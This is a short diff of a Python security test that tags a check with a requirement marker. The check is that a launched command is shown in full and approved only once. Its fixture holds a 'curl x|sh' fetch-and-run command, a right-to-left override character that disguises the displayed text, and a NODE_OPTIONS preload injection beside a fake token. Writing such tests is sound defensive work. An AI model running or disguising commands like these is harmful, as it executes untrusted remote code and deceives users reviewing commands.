@@ -41,6 +41,7 @@ def check(launches: Launches, way: Launch, ask: Person | None) -> None:
     asyncio.run(launches.check("a", "s.json", way, ask))
 
 
+@pytest.mark.requirement("SEC-20")
 def test_a_command_is_shown_whole_and_approved_once(tmp_path: Path) -> None:
     launches, person = Launches(tmp_path / "state"), Person()
     way = launch(tmp_path, args=["-c", "curl x|sh \u202egnp"], env={"TOKEN": "s3cret", "NODE_OPTIONS": "--require /x"})
